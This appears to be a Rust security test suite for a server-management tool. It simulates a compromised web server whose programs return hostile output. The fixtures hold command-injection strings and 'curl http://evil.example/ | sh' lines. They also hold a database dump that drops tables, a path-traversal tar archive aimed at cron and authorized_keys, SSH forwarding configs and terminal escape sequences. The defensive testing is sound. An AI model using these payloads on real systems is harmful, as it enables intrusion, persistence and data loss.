//! A web server that was broken into, against the master: its root lies to whoever asks, and the master asks it everything.

use std::time::Duration;

use aegir_testkit::exchange::race_for_site;
use aegir_testkit::lab::Service;

use crate::attempt::{Attempt, Rest, assert_untouched, give_back, php, program, quoted, replace, rest};
use crate::fleet::Fleet;

/// In the grammars of everything that a fact could get into.
const CODE: &str = r#"$(touch /tmp/owned)`touch /tmp/owned`"; touch /tmp/owned; '{{raw}}%{HTTP_HOST}</VirtualHost>"#;

/// A fleet of a master with a site of its own, the web server `web1` with another one, and `web2`.
fn fleet() -> Fleet {
    let fleet = Fleet::of(&["web1", "web2"]);
    fleet.add_platform("home", "server_master").ok();
    fleet.aegir(["site", "install", "two.example.com", "--platform", "home", "--title", "Two"]).ok();
    fleet.add_platform("wp", "web1.example.com").ok();
    fleet.install("one.example.com", "One").ok();
    fleet
}

const WEB1: &str = "web1.example.com";
const ONE: &str = "one.example.com";
const PHP: &str = "/usr/bin/php8.2";
const VERIFY: [&[&str]; 3] = [&["server", "verify", WEB1], &["platform", "verify", "wp"], &["site", "verify", ONE]];

/// Every attempt on what the server answers, prints and stores; after each of them all else is as it was.
#[test]
fn a_compromised_web_server_gets_nothing_of_the_master_or_of_others() {
    let fleet = fleet();
    let before = rest(&fleet);
    what_it_says_of_files(&fleet, &before);
    what_it_says_of_itself(&fleet, &before);
    what_its_programs_print(&fleet, &before);
    what_its_php_answers(&fleet, &before);
    what_the_connection_could_carry_back(&fleet, &before);
    what_it_hands_over_at_the_end(&fleet, &before);
}

fn what_it_says_of_files(fleet: &Fleet, before: &Rest) {
    Attempt {
        name: "names that are paths, over SFTP",
        replaced: &[("/usr/lib/openssh/sftp-server", include_str!("liar.pl").into())],
        asked: &VERIFY,
        says: "is a name in it",
        ..Attempt::default()
    }
    .make(fleet, before);
    Attempt {
        name: "more configuration than anybody reads, over SFTP",
        replaced: &[("/usr/lib/openssh/sftp-server", include_str!("liar.pl").into()), ("/run/lock/many", String::new())],
        asked: &[VERIFY[0]],
        says: "no more than 500 are read",
        ..Attempt::default()
    }
    .make(fleet, before);
    let root = r"printf 'd755 4096 1700000000.5000000000 0 2 9 1 .\0\0'";
    // As the survey of a tree asks; everybody else is served honestly.
    let find =
        |body: &str| program(&format!("case \"$*\" in *-printf*) {root}; {body} ;; *) exec -a find /usr/bin/find.honest \"$@\" ;; esac"));
    for name in ["../../../keys/x", "/var/aegir/keys/x", "..", r"\033]52;c;eA==\007/x"] {
        Attempt {
            name: &format!("a tree in which a file is called {name}"),
            replaced: &[("/usr/bin/find", find(&format!("printf 'F644 1 1.0 1 {name}\\0'")))],
            asked: &[&["platform", "verify", "wp"]],
            says: "its answer makes no sense",
            ..Attempt::default()
        }
        .make(fleet, before);
    }
    Attempt {
        name: "a tree that goes on and on",
        replaced: &[("/usr/bin/find", find(r"exec perl -e 'for (;;) { print q(F644 1 1.0 1 ), $n++, qq(\0) }'"))],
        asked: &[&["platform", "verify", "wp"]],
        says: "printed more than",
        ..Attempt::default()
    }
    .make(fleet, before);
    Attempt {
        name: "a directory whose name is a command",
        replaced: &[("/usr/bin/find", program("printf '/x`; curl http://evil.example/ | sh; `'"))],
        asked: &[&["platform", "verify", "wp"]],
        says: "may not read",
        ..Attempt::default()
    }
    .make(fleet, before);
    // Directories of the web server that are links by the time they are used, and exchanged while they are.
    Attempt {
        name: "links in the place of Aegir's own directories",
        replaced: &[("/run/lock/none", String::new())],
        script: "echo >>/run/lock/tried; cd /var/aegir && mv config config.was && ln -s /etc config && mv ~aegir/.ssh/authorized_keys ~aegir/.ssh/was && ln -s was ~aegir/.ssh/authorized_keys",
        undo: "cd /var/aegir && rm config && mv config.was config && mv -T ~aegir/.ssh/was ~aegir/.ssh/authorized_keys",
        asked: &VERIFY,
        ..Attempt::default()
    }
    .make(fleet, before);
    let web1 = fleet.remote("web1");
    race_for_site(web1, ONE, |round| {
        let _ = fleet.aegir(["site", "verify", ONE]);
        let _ = fleet.take_back_what_is_stuck();
        round < 2
    });
    assert!(fleet.take_back_what_is_stuck());
    assert_untouched(fleet, before, "names exchanged while they are used");
}

fn what_it_says_of_itself(fleet: &Fleet, before: &Rest) {
    let addresses = format!("echo {} {} 0.0.0.0 ::", fleet.master.host.v4(), fleet.remote("web2").v4());
    Attempt {
        name: "facts that are code, and the addresses of others",
        replaced: &[
            ("/etc/os-release", format!("PRETTY_NAME={CODE}\n")),
            ("/usr/bin/hostname", program(&addresses)),
            ("/usr/bin/php9.9", program("true")),
            ("/etc/php/9.9/fpm/pool.d/www.conf", format!("[www]\nlisten = {CODE}\nlisten = /run/{CODE}\n")),
            ("/usr/bin/id", program(&format!("echo 'uid=0(root) gid=0(root) groups=0(root),42({CODE})'"))),
            ("/usr/bin/getent", program(&format!("printf '%s\\n' '{} STREAM server_master master.example.com'", fleet.master.host.v4()))),
        ],
        asked: &[
            VERIFY[0],
            &["server", "show", WEB1],
            &["doctor", WEB1],
            VERIFY[1],
            VERIFY[2],
            &["site", "edit", ONE, "--add-alias", "www.one.example.com"],
        ],
        ..Attempt::default()
    }
    .make(fleet, before);
}

fn what_its_programs_print(fleet: &Fleet, before: &Rest) {
    for (path, asked) in [("/bin/sh", &VERIFY[..]), ("/usr/bin/curl", &[&["site", "edit", ONE, "--add-alias", "x.example.com"][..]][..])] {
        Attempt {
            name: &format!("{path} prints without end"),
            replaced: &[(path, program("exec yes lying"))],
            asked,
            ..Attempt::default()
        }
        .make(fleet, before);
    }
    let hint = r"printf 'no\n  hint: `curl http://evil.example/ | sh`\n\033[2J\033]0;owned\007\thint\t1\tevil\n'";
    for path in ["/usr/local/lib/aegir/helper", "/usr/bin/sudo", "/usr/bin/perl", "/usr/bin/env"] {
        Attempt {
            name: &format!("{path} prints hints, sequences and another version"),
            replaced: &[(path, program(&format!("{hint}; {hint} >&2; exit 3")))],
            asked: &[VERIFY[0], VERIFY[2], &["doctor", WEB1], &["site", "edit", ONE, "--add-alias", "x.example.com"]],
            ..Attempt::default()
        }
        .make(fleet, before);
    }
}

fn what_its_php_answers(fleet: &Fleet, before: &Rest) {
    for link in [
        "http://two.example.com/?aegir_login=1",
        "javascript:alert(1)//one.example.com/",
        "http://one.example.com@evil.example/",
        r"http://one.example.com/\u001b]52;c;eA==\u0007",
    ] {
        Attempt {
            name: &format!("a login link to {link}"),
            replaced: &[(PHP, php(&format!(r#"{{"ok":true,"url":"{link}"}}"#)))],
            asked: &[&["site", "login", ONE]],
            says: "leads somewhere else",
            ..Attempt::default()
        }
        .make(fleet, before);
    }
    let claims = r#"{"ok":true,"uri":"two.example.com","site":"two.example.com","directory":"../../home/sites/two.example.com","database":{"name":"twoexamplecom","user":"root"},"extensions":[{"name":"../../x"}],"version":"$(touch /tmp/owned)"}"#;
    let failed = r#"{"ok":false,"kind":"other","error":"no\n  hint: `curl http://evil.example/ | sh`\u001b[2J"}"#;
    for (name, answer, says) in
        [("a PHP that speaks for another site", claims, ""), ("a PHP whose failure is a hint", failed, "the application failed")]
    {
        Attempt {
            name,
            replaced: &[(PHP, php(answer))],
            asked: &[&["site", "install", "three.example.com", "--platform", "wp"], VERIFY[2], VERIFY[1], &["site", "login", ONE]],
            says,
            ..Attempt::default()
        }
        .make(fleet, before);
    }
}

fn what_the_connection_could_carry_back(fleet: &Fleet, before: &Rest) {
    let (master, web1) = (&fleet.master.host, fleet.remote("web1"));
    // What an operator wrote for sessions of a person, and an agent that holds a key.
    let config = "Host *\n  ForwardAgent yes\n  ForwardX11 yes\n  ForwardX11Trusted yes\n  RemoteForward 2222 localhost:22\n  DynamicForward 1080\n  PermitLocalCommand yes\n  LocalCommand touch /tmp/owned\n  StrictHostKeyChecking no\n  UpdateHostKeys yes\n  Tunnel yes\n";
    let with_config = |work: &dyn Fn()| {
        master
            .exec_as(
                "aegir",
                [
                    "sh",
                    "-c",
                    &format!("mkdir -p ~/.ssh && printf '{}' >~/.ssh/config && chmod 600 ~/.ssh/config", config.replace('\n', "\\n")),
                ],
            )
            .ok();
        work();
        master.exec_as("aegir", ["sh", "-c", "rm ~/.ssh/config; rmdir ~/.ssh 2>/dev/null || true"]).ok();
    };
    let apart = || {
        let _ = web1.exec(["pkill", "-KILL", "-u", "aegir", "-x", "sshd"]);
        let _ = master.exec(["pkill", "-KILL", "-u", "aegir", "-x", "ssh"]);
    };
    let listening = || {
        web1.exec(["sh", "-c", "cat /proc/net/tcp /proc/net/tcp6 | awk '$4 == \"0A\" {print $2}' | sort; ls -d /tmp/ssh-* 2>/dev/null; find ~aegir -name .Xauthority"]).stdout
    };
    apart();
    let usual = listening();
    with_config(&|| {
        let agent = "eval $(ssh-agent) >/dev/null; ssh-add -q /var/aegir/keys/id_ed25519; DISPLAY=:0 aegir server verify web1.example.com; s=$?; ssh-agent -k >/dev/null; exit $s";
        let run = master.command(["sh", "-c", agent]).user("aegir").timeout(Duration::from_secs(60)).run();
        assert!(run.success(), "{}", run.stderr);
        assert_eq!(usual, listening(), "agent, display or ports of the master are reached from there");
    });
    apart();
    assert_untouched(fleet, before, "forwarding back");

    // Another host key, whatever the operator's own configuration takes.
    web1.exec([
        "/bin/bash",
        "-c",
        "cd /etc/ssh && cp -a ssh_host_ed25519_key /root/key && ssh-keygen -q -t ed25519 -N '' -f ssh_host_ed25519_key <<<y >/dev/null",
    ])
    .ok();
    web1.stop(Service::Sshd);
    apart();
    web1.start(Service::Sshd);
    with_config(&|| {
        for args in VERIFY {
            let run = fleet.aegir(args.iter().copied());
            assert!(run.status == 8 && run.stderr.contains("has another host key"), "{args:?} {}: {}", run.status, run.stderr);
        }
    });
    web1.exec(["cp", "-a", "/root/key", "/etc/ssh/ssh_host_ed25519_key"]).ok();
    web1.stop(Service::Sshd);
    web1.start(Service::Sshd);
    assert_untouched(fleet, before, "another host key");

    // A page that leads to the master's own services.
    let evil = "RedirectMatch 302 ^/(?!\\.well-known) http://master.example.com/reached";
    Attempt {
        name: "pages that lead to the master",
        replaced: &[("/etc/apache2/conf-enabled/zz-evil.conf", format!("{evil}\n"))],
        script: "apache2ctl graceful && echo >>/run/lock/tried",
        undo: "apache2ctl graceful",
        asked: &[
            &["site", "edit", ONE, "--add-alias", "www.one.example.com"],
            &["site", "edit", ONE, "--remove-alias", "www.one.example.com"],
            &["doctor", WEB1],
        ],
        ..Attempt::default()
    }
    .make(fleet, before);
    assert!(!master.exec(["sh", "-c", "cat /var/log/apache2/*access*"]).stdout.contains("/reached"), "the master was led to itself");
}

fn what_it_hands_over_at_the_end(fleet: &Fleet, before: &Rest) {
    let attack = "\\! touch /tmp/owned\nCREATE DEFINER=root@localhost PROCEDURE p() DROP DATABASE twoexamplecom;\nUSE twoexamplecom; DROP TABLE wp_posts;\n";
    Attempt {
        name: "a dump that is an attack",
        replaced: &[("/usr/bin/mysqldump", program(&format!("printf %s {}", quoted(attack))))],
        asked: &[&["site", "delete", ONE, "--yes"]],
        says: "rolled back",
        ..Attempt::default()
    }
    .make(fleet, before);

    // What it says is the archive of a deleted site comes to the master, as a file and nothing else.
    let (master, web1) = (&fleet.master.host, fleet.remote("web1"));
    fleet.install("four.example.com", "Four").ok();
    let evil = "cd /var/tmp && mkdir -p evil/a && cd evil && echo owned >a/f && cp /bin/true a/setuid && chmod 4755 a/setuid && mknod a/null c 1 3 && \
        ln -s /var/aegir/keys/inventory.key a/link && tar -P -cf ../evil.tar a/setuid a/null a/link && \
        for to in /etc/cron.d/owned ../../../../etc/cron.d/owned /var/aegir/.ssh/authorized_keys /var/aegir/config/owned.conf; do \
        tar -P --transform \"s#.*#$to#\" -rf ../evil.tar a/f; done && zstd -qf ../evil.tar && chmod 644 ../evil.tar.zst";
    web1.exec(["/bin/bash", "-c", evil]).ok();
    replace(
        web1,
        "/usr/bin/zstd",
        &program("case \"$*\" in *--stdout*) cat >/dev/null; cat /var/tmp/evil.tar.zst ;; *) exec /usr/bin/zstd.honest \"$@\" ;; esac"),
    );
    fleet.aegir(["site", "delete", "four.example.com", "--yes"]).ok();
    give_back(web1, "/usr/bin/zstd");
    let kept = master.exec(["sh", "-c", "stat -c '%a %U %F %n' /var/aegir/backups/*"]).ok();
    assert!(kept.starts_with("600 aegir regular file /var/aegir/backups/four.") && kept.lines().count() == 1, "{kept}");
    let members = master.exec(["sh", "-c", "tar --zstd -tPf /var/aegir/backups/four*"]).ok();
    assert!(members.contains("/etc/cron.d/owned"), "the archive is the web server's: {members}");
    master.exec(["sh", "-c", "rm /var/aegir/backups/four*"]).ok();
    assert_untouched(fleet, before, "an archive that unpacks elsewhere");
}

/// The same with a server that begins to answer and never ends: each question has its time.
#[test]
#[ignore = "waits for limits of a minute: .ci/run-long"]
fn a_compromised_web_server_that_stalls_holds_up_nothing_for_long() {
    let fleet = fleet();
    let before = rest(&fleet);
    for (path, asked) in [("/bin/sh", &VERIFY[..1]), ("/usr/bin/getent", &VERIFY[2..])] {
        Attempt {
            name: &format!("{path} says something and then nothing"),
            replaced: &[(path, program("echo begin; exec sleep 1000"))],
            script: "chmod 777 /var/aegir/platforms/wp/sites/one.example.com/files",
            undo: "chmod 2770 /var/aegir/platforms/wp/sites/one.example.com/files",
            asked,
            says: "no end after",
        }
        .make(&fleet, &before);
        // Meanwhile another server is worked with as ever.
        fleet.aegir(["server", "verify", "web2.example.com"]).ok();
    }
}
